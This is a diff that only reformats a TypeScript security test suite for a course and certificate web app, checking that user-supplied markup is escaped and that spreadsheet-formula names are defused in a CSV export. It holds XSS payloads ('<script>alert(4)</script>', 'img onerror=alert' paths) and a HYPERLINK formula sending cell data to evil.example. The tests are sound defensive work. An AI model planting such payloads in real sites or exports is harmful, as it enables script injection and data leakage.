@@ -30,10 +30,19 @@ let resultPath: string;
 
 beforeAll(async () => {
   w = await createWorld('markup', { sessions: 2 });
-  const res = await w.http.post('/en/register', { name: NAME, email: 'markup@oqu.test', password: 'amber-steppe-lantern-4', locale: 'en', region: '<b>Алматы</b>', organisation: '<script>alert(4)</script>' });
+  const res = await w.http.post('/en/register', {
+    name: NAME,
+    email: 'markup@oqu.test',
+    password: 'amber-steppe-lantern-4',
+    locale: 'en',
+    region: '<b>Алматы</b>',
+    organisation: '<script>alert(4)</script>',
+  });
   expect(res.status, res.text.slice(0, 300)).toBe(303);
   // Registration signs no one in (docs/decisions/012): sign in with the chosen password.
-  cookie = sessionCookieOf(await w.http.post('/en/login', { email: 'markup@oqu.test', password: 'amber-steppe-lantern-4' }))!;
+  cookie = sessionCookieOf(
+    await w.http.post('/en/login', { email: 'markup@oqu.test', password: 'amber-steppe-lantern-4' }),
+  )!;
   for (const lesson of urbanism.lessons) await w.http.post(donePath('urbanism', lesson), {}, { cookie });
   for (const q of Object.values(urbanism.quizzes)) {
     const form = passingForm(q.file, randomKey());
@@ -44,11 +53,15 @@ beforeAll(async () => {
   // One more attempt whose text answers are markup.
   const q = Object.values(urbanism.quizzes)[1]!;
   const form = passingForm(q.file, randomKey());
-  for (const key of [...form.keys()]) if (key.startsWith('q.') && (q.file.questions.find((x) => `q.${x.id}` === key)?.type === 'text')) form.set(key, ANSWER);
+  for (const key of [...form.keys()])
+    if (key.startsWith('q.') && q.file.questions.find((x) => `q.${x.id}` === key)?.type === 'text')
+      form.set(key, ANSWER);
   const markupAttempt = await w.http.post(quizPath('urbanism', q.lesson), form, { cookie });
   expect(markupAttempt.status).toBe(303);
   resultPath = markupAttempt.location!;
-  code = /\/verify\/([0-9A-Z]{4}-[0-9A-Z]{4}-[0-9A-Z]{4})/.exec((await w.http.get('/en/account', { cookie })).text)![1]!;
+  code = /\/verify\/([0-9A-Z]{4}-[0-9A-Z]{4}-[0-9A-Z]{4})/.exec(
+    (await w.http.get('/en/account', { cookie })).text,
+  )![1]!;
   browser = await launchBrowser();
 });
 
@@ -58,7 +71,10 @@ afterAll(async () => {
 });
 
 test('the markup is escaped in the HTML the server sends', async () => {
-  const pages = { account: await w.http.get('/en/account', { cookie }), verify: await w.http.get(`/verify/${code}?lang=en`) };
+  const pages = {
+    account: await w.http.get('/en/account', { cookie }),
+    verify: await w.http.get(`/verify/${code}?lang=en`),
+  };
   for (const [name, res] of Object.entries(pages)) {
     expect(res.status, name).toBe(200);
     // Inside a quoted attribute value `<` is inert (the form field keeps the name as typed);
@@ -81,28 +97,35 @@ test('the PDF carries the name as text, verbatim', async () => {
   writeFileSync(file, res.body);
   const text = execFileSync('pdftotext', ['-raw', file, '-'], { encoding: 'utf8' });
   const squeezed = (s: string) => s.replace(/\s+/g, '');
-  console.log(`[hostile-markup] PDF ${res.body.length} bytes; pdftotext finds the name verbatim: ${squeezed(text).includes(squeezed(NAME))}`);
+  console.log(
+    `[hostile-markup] PDF ${res.body.length} bytes; pdftotext finds the name verbatim: ${squeezed(text).includes(squeezed(NAME))}`,
+  );
   expect(squeezed(text)).toContain(squeezed(NAME));
 });
 
-test(
-  "a name that is a spreadsheet formula is defused in the trainer's CSV export",
-  async () => {
-    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
-    const res = await w.http.post('/en/register', { name: formula, email: 'formula@oqu.test', password: 'amber-steppe-lantern-4', locale: 'en' });
-    expect(res.status).toBe(303);
-    const signedIn = await w.http.post('/en/login', { email: 'formula@oqu.test', password: 'amber-steppe-lantern-4' });
-    await w.http.post(donePath('urbanism', urbanism.lessons[0]!), {}, { cookie: sessionCookieOf(signedIn) });
-    const csv = await w.http.get('/en/trainer/courses/urbanism/trainees.csv', { cookie: w.cookie('trainer') });
-    expect(csv.status).toBe(200);
-    const line = csv.text.split('\r\n').find((l) => l.includes('HYPERLINK'));
-    console.log(`[hostile-markup] CSV export line of the formula name: ${line}`);
-    expect(line).toBeDefined();
-    expect(line!.replace(/^"/, '')).toMatch(/^'=/);
-  },
-);
+test("a name that is a spreadsheet formula is defused in the trainer's CSV export", async () => {
+  const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
+  const res = await w.http.post('/en/register', {
+    name: formula,
+    email: 'formula@oqu.test',
+    password: 'amber-steppe-lantern-4',
+    locale: 'en',
+  });
+  expect(res.status).toBe(303);
+  const signedIn = await w.http.post('/en/login', { email: 'formula@oqu.test', password: 'amber-steppe-lantern-4' });
+  await w.http.post(donePath('urbanism', urbanism.lessons[0]!), {}, { cookie: sessionCookieOf(signedIn) });
+  const csv = await w.http.get('/en/trainer/courses/urbanism/trainees.csv', { cookie: w.cookie('trainer') });
+  expect(csv.status).toBe(200);
+  const line = csv.text.split('\r\n').find((l) => l.includes('HYPERLINK'));
+  console.log(`[hostile-markup] CSV export line of the formula name: ${line}`);
+  expect(line).toBeDefined();
+  expect(line!.replace(/^"/, '')).toMatch(/^'=/);
+});
 
-async function visit(context: BrowserContext, paths: string[]): Promise<{ dialogs: string[]; images: number; scripts: number; textShown: boolean[] }> {
+async function visit(
+  context: BrowserContext,
+  paths: string[],
+): Promise<{ dialogs: string[]; images: number; scripts: number; textShown: boolean[] }> {
   const page = await context.newPage();
   const dialogs: string[] = [];
   page.on('dialog', async (d) => {
@@ -116,7 +139,9 @@ async function visit(context: BrowserContext, paths: string[]): Promise<{ dialog
     await page.goto(new URL(path, w.server.baseURL).href, { waitUntil: 'load' });
     await page.waitForTimeout(100);
     images += await page.locator('img[src="x"]').count();
-    scripts += await page.evaluate(() => [...document.scripts].filter((s) => /alert\(/.test(s.textContent ?? '')).length);
+    scripts += await page.evaluate(
+      () => [...document.scripts].filter((s) => /alert\(/.test(s.textContent ?? '')).length,
+    );
     textShown.push((await page.evaluate(() => document.body.innerText)).includes('onerror=alert('));
   }
   await page.close();
@@ -125,13 +150,25 @@ async function visit(context: BrowserContext, paths: string[]): Promise<{ dialog
 
 test('in Chromium: no dialog fires, no img[src=x] exists, the markup reads as text', async () => {
   // The admin revokes the certificate with a reason that is markup as well.
-  const revoke = await w.http.post('/en/admin/', { intent: 'revoke', code, reason: REASON }, { cookie: w.cookie('admin') });
+  const revoke = await w.http.post(
+    '/en/admin/',
+    { intent: 'revoke', code, reason: REASON },
+    { cookie: w.cookie('admin') },
+  );
   expect(revoke.status).toBe(200);
 
   const trainee = await browser.newContext();
   const [name, value] = cookie.split('=') as [string, string];
   await trainee.addCookies([{ name, value, url: w.server.baseURL }]);
-  const traineePages = ['/en/account', '/kk/account', resultPath, `/verify/${code}?lang=en`, `/verify/${code}?lang=kk`, `/en/%3Cimg%20src=x%20onerror=alert(5)%3E`, `/verify/%3Cimg%20src=x%20onerror=alert(6)%3E`];
+  const traineePages = [
+    '/en/account',
+    '/kk/account',
+    resultPath,
+    `/verify/${code}?lang=en`,
+    `/verify/${code}?lang=kk`,
+    `/en/%3Cimg%20src=x%20onerror=alert(5)%3E`,
+    `/verify/%3Cimg%20src=x%20onerror=alert(6)%3E`,
+  ];
   const seen = await visit(trainee, traineePages);
 
   const admin = await browser.newContext();
